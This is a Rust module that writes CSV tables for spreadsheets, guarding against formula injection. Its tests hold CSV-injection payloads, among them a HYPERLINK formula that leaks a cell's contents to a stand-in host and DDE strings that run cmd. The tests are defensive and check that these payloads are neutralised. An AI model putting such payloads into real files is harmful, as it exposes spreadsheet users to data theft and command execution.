//! Tables to take away, for spreadsheets and an accountant's program: CSV (RFC 4180). They begin with a byte order mark,
//! as Excel reads UTF-8 as something else without one; dates are ISO 8601, amounts have a point and the decimals of their
//! currency. What people typed cannot become a formula.

use jiff::civil::Date;

use crate::domain::money::Money;
use crate::domain::time::{Timestamp, Zone};

/// What a spreadsheet takes a cell for a formula by; with the wide forms that East Asian keyboards give.
const FORMULA: [char; 11] = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠'];

/// What stands in a cell.
#[derive(Debug, Clone, Copy)]
pub enum Cell<'a> {
    /// Words of anybody's.
    Text(&'a str),
    /// An amount, without its currency.
    Amount(Money),
    /// A number of things.
    Count(u32),
    /// A date.
    On(Date),
    /// The local time of an instant, to the second.
    At(Timestamp, &'a Zone),
    /// Nothing.
    Empty,
}

impl Cell<'_> {
    fn written(self) -> String {
        match self {
            Self::Text(text) if text.starts_with(FORMULA) => format!("'{text}"),
            Self::Text(text) => text.to_owned(),
            Self::Amount(amount) => amount.digits(),
            Self::Count(count) => count.to_string(),
            Self::On(date) => date.to_string(),
            Self::At(at, zone) => zone.local(at).strftime("%Y-%m-%d %H:%M:%S").to_string(),
            Self::Empty => String::new(),
        }
    }
}

/// A table being written.
#[derive(Debug)]
pub struct Table(csv::Writer<Vec<u8>>);

impl Table {
    /// With the names of its columns.
    #[must_use]
    pub fn new(columns: &[&str]) -> Self {
        let lines = csv::Terminator::CRLF;
        let mut table = Self(csv::WriterBuilder::new().terminator(lines).from_writer("\u{feff}".into()));
        table.line(columns);
        table
    }

    /// Adds a line; it has as many cells as there are columns.
    pub fn row(&mut self, cells: &[Cell<'_>]) {
        let cells: Vec<String> = cells.iter().map(|cell| cell.written()).collect();
        self.line(&cells);
    }

    fn line(&mut self, cells: &[impl AsRef<[u8]>]) {
        self.0.write_record(cells).expect("memory takes every line, and lines are of one length");
    }

    /// The file.
    #[must_use]
    pub fn finish(self) -> Vec<u8> {
        self.0.into_inner().expect("memory takes every line")
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Read back by a reader, as a spreadsheet would.
    fn read_back(cells: &[Cell<'_>]) -> Vec<String> {
        let names = vec!["column"; cells.len()];
        let mut table = Table::new(&names);
        table.row(cells);
        let file = table.finish();
        let text = std::str::from_utf8(&file).unwrap().strip_prefix('\u{feff}').unwrap();
        let mut reader = csv::Reader::from_reader(text.as_bytes());
        reader.records().next().unwrap().unwrap().iter().map(str::to_owned).collect()
    }

    #[test]
    fn no_words_become_a_formula() {
        for typed in [
            "=1+1",
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
            "+1 802 555 0134",
            "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=1+1",
            "\r=1+1",
            "\n=1+1",
            "＝1+1",
            "＠SUM(A1)",
        ] {
            assert_eq!(read_back(&[Cell::Text(typed)]), [format!("'{typed}")]);
        }
    }

    #[test]
    fn words_come_back_as_they_were_typed() {
        for typed in [
            "Łukasz Żółć",
            "O’Brien, Nora",
            "says \"hello\"",
            "two\nlines",
            "a=b",
            "1-2",
            "",
            "'quoted",
            "名前",
        ] {
            assert_eq!(read_back(&[Cell::Text(typed), Cell::Empty]), [typed, ""]);
        }
    }

    #[test]
    fn amounts_stay_numbers_in_the_decimals_of_their_currency() {
        let of = |minor, code: &str| Cell::Amount(Money::new(minor, code.parse().unwrap()));
        let cells = [of(-36000, "USD"), of(9000, "JPY"), of(1500, "KWD"), of(5, "EUR")];
        assert_eq!(read_back(&cells), ["-360.00", "9000", "1.500", "0.05"]);
    }

    #[test]
    fn dates_are_iso_and_instants_local() {
        let zone = "America/New_York".parse().unwrap();
        let at = "2026-04-14T02:30:00Z".parse().unwrap();
        let cells = [Cell::On("2026-04-14".parse().unwrap()), Cell::At(at, &zone), Cell::Count(6)];
        assert_eq!(read_back(&cells), ["2026-04-14", "2026-04-13 22:30:00", "6"]);
        assert!(Table::new(&["a", "b"]).finish().ends_with(b"a,b\r\n"));
    }
}
